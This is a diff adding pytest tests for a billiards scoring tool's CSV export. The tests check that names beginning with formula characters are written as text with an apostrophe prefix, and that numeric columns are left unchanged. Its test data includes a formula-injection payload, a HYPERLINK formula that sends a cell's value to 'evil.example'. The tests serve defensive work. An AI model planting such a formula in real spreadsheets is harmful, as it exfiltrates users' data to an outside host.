@@ -21,6 +21,7 @@ from carom.live import (
     result_row,
     shot_log,
 )
+from carom.live._export import csv_cell, csv_text, write_csv
 from referee import Correction, CorrectionKind, Foul, Phase, record_json
 from tests.carom.live.shotpool import NOW, example_inputs, example_setup
 
@@ -148,3 +149,32 @@ def test_cli_errors_are_one_line(
     err = captured.err.strip()
     assert problem in err and err.startswith("carom: ") and "\n" not in err
     assert not (tmp_path / "missing.db").exists()
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)",
+            "\tTab", "\rCR"]  # fmt: skip
+
+
+@pytest.mark.parametrize("name", FORMULAS)
+def test_a_name_that_starts_a_formula_is_written_as_text(tmp_path: Path, name: str) -> None:
+    row = result_row(_finished_match(tmp_path / "live.db", with_calls=False))
+    row |= {"player_a": name, "winner": name, "points_b": "-3", "average_b": "-0.5"}
+    path = tmp_path / "results.csv"
+    write_csv(path, [row])
+    write_csv(path, [row])  # appended below the same header
+    with path.open(encoding="utf-8", newline="") as f:
+        rows = list(csv.DictReader(f))
+    assert len(rows) == 2
+    for got in rows:
+        assert got["player_a"] == got["winner"] == "'" + name  # shown as text, not run
+        assert (got["points_b"], got["average_b"]) == ("-3", "-0.5")  # numbers stay numbers
+        assert got["player_b"] == "Ben" and got["points_a"] == "5"
+
+
+def test_only_text_cells_are_neutralised() -> None:
+    assert csv_cell("player_c", "-Bob") == "'-Bob"
+    assert csv_cell("discipline", "=1") == "'=1"
+    assert csv_cell("player_a", "Ana = 1") == "Ana = 1"  # only the first character counts
+    for column in ("points_a", "innings_h", "average_b", "high_run_c", "match_points_a"):
+        assert csv_cell(column, "-4") == "-4"
+    assert csv_text([]) == ",".join(CSV_COLUMNS) + "\n"
